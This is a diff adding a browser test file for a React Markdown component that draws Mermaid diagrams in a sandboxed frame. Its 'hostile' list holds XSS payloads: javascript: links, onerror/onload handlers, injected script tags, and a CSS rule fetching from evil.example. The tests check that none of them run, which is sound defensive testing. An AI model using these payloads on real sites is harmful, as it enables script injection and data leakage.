@@ -1,0 +1,123 @@
+import '@tinystar/tokens/theme.css';
+import { flushSync } from 'react-dom';
+import { createRoot, type Root } from 'react-dom/client';
+import { afterEach, beforeEach, expect, test, vi } from 'vitest';
+import { userEvent } from 'vitest/browser';
+import { Markdown, type MarkdownProps } from '../Markdown.tsx';
+import { broken, flow, halfWritten, sequence, tooLong } from './storyDiagrams.ts';
+
+let root: Root;
+let page: HTMLElement;
+
+beforeEach(() => {
+  page = document.createElement('div');
+  document.body.append(page);
+  root = createRoot(page);
+});
+afterEach(() => {
+  root.unmount();
+  page.remove();
+});
+
+const show = (props: MarkdownProps): void =>
+  flushSync(() => root.render(<Markdown diagramFrame="/diagram/frame.html" {...props} />));
+const drawing = { timeout: 20_000 };
+const image = (): HTMLImageElement | null => page.querySelector('figure img');
+const drawnImage = (): Promise<HTMLImageElement> =>
+  vi.waitFor(() => {
+    const found = image();
+    if (!found) throw new Error(`no picture: ${page.textContent}`);
+    return found;
+  }, drawing);
+const svgOf = async (picture: HTMLImageElement): Promise<string> => (await fetch(picture.src)).text();
+const note = (): string | undefined => page.querySelector('figure > p')?.textContent;
+
+test('a finished diagram becomes a picture with a name, and its code stays one press away [CHAT-24 UI-49]', async () => {
+  show({ text: flow });
+  expect(page.querySelector('pre')?.checkVisibility()).toBe(true);
+  const picture = await drawnImage();
+  expect(picture.alt).toBe('流程图');
+  expect(picture.naturalWidth).toBeGreaterThan(100);
+  expect(await svgOf(picture)).toContain('联系售后');
+  expect(page.querySelector('pre')?.checkVisibility()).toBe(false);
+  await userEvent.click(page.querySelector('figcaption button') ?? page);
+  expect(page.querySelector('pre')?.checkVisibility()).toBe(true);
+  expect(picture.checkVisibility()).toBe(false);
+  await userEvent.click(page.querySelector('figcaption button') ?? page);
+  expect(picture.checkVisibility()).toBe(true);
+});
+
+test('a diagram that is still being written stays code until its fence closes [CHAT-01 UI-49]', async () => {
+  show({ text: halfWritten, streaming: true });
+  await new Promise((done) => setTimeout(done, 600));
+  expect(image()).toBeNull();
+  show({ text: `${halfWritten}]\n\`\`\`\n\n后文`, streaming: true });
+  await drawnImage();
+});
+
+test('what cannot be drawn, or is too long to be drawn, stays readable as code with a word about it [UI-49]', async () => {
+  show({ text: broken });
+  await vi.waitFor(() => expect(note()).toBe('图没有画出来，下面是它的代码'), drawing);
+  expect(page.querySelector('pre')?.checkVisibility()).toBe(true);
+  show({ text: tooLong });
+  await vi.waitFor(() => expect(note()).toBe('图的代码过长，只显示代码'));
+  expect(image()).toBeNull();
+});
+
+test('without a page that draws, diagrams are code and nothing is loaded [UI-49]', async () => {
+  const frames = document.querySelectorAll('iframe').length;
+  show({ text: sequence, diagramFrame: '' });
+  await new Promise((done) => setTimeout(done, 300));
+  expect(page.querySelector('code')?.textContent).toContain('sequenceDiagram');
+  expect(image()).toBeNull();
+  expect(document.querySelectorAll('iframe').length).toBe(frames);
+});
+
+test('is drawn anew in the colours of the other theme [UI-49]', async () => {
+  page.dataset.theme = 'light';
+  show({ text: sequence });
+  const light = await drawnImage();
+  const before = await svgOf(light);
+  page.dataset.theme = 'dark';
+  await vi.waitFor(() => expect(image()).not.toBe(light), drawing);
+  expect(await svgOf(await drawnImage())).not.toBe(before);
+});
+
+const hostile = [
+  'flowchart TD\n  A[a] --> B[b]\n  click A call window.__xss() "x"\n  click B href "javascript:parent.__xss=1" "x"',
+  '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\nflowchart TD\n  A["<img src=x onerror=parent.__xss=1>"] --> B["<script>parent.__xss=1</script>"]',
+  '---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\nflowchart TD\n  A["<svg onload=top.__xss=1><foreignObject><iframe src=javascript:top.__xss=1></iframe></foreignObject></svg>"] --> B',
+  '%%{init: {"themeCSS": "* { background: url(http://evil.example/leak) } @import url(http://evil.example/a.css)", "fontFamily": "x</style><script>parent.__xss=1</script>"}}%%\nflowchart TD\n  A --> B',
+  'classDiagram\n  class A\n  link A "javascript:parent.__xss=1"\n  callback A "eval" "parent.__xss=1"',
+];
+
+test.each(hostile)('nothing in a diagram runs or is fetched, here or in the picture: %s [UI-49]', async (source) => {
+  show({ text: `\`\`\`mermaid\n${source}\n\`\`\`` });
+  await vi.waitFor(() => expect(image() ?? note()).toBeTruthy(), drawing);
+  await new Promise((done) => setTimeout(done, 200));
+  expect('__xss' in window).toBe(false);
+  expect(page.querySelectorAll('script, iframe, figure > :not(figcaption, pre, div, p)').length).toBe(0);
+  const picture = image();
+  if (!picture) return;
+  const svg = new DOMParser().parseFromString(await svgOf(picture), 'image/svg+xml');
+  expect(svg.querySelectorAll('script, iframe, foreignObject, image').length).toBe(0);
+  for (const element of svg.querySelectorAll('*'))
+    for (const { name, value } of element.attributes) {
+      expect(name).not.toMatch(/^on|href$/i);
+      expect(value).not.toContain('javascript:');
+    }
+  expect(svg.documentElement.outerHTML).not.toContain('evil.example');
+});
+
+test('the frame that draws has no origin and can reach nothing of the page [UI-49]', async () => {
+  show({ text: sequence });
+  await drawnImage();
+  const frame = document.querySelector('iframe');
+  expect(frame?.getAttribute('sandbox')).toBe('allow-scripts');
+  expect(frame?.contentDocument).toBeNull();
+  expect(() => frame?.contentWindow?.document).toThrow();
+  const answer = await fetch('/diagram/frame.html');
+  expect(answer.headers.get('content-security-policy')).toMatch(
+    /^sandbox allow-scripts; default-src 'none'; script-src 'self'/,
+  );
+});
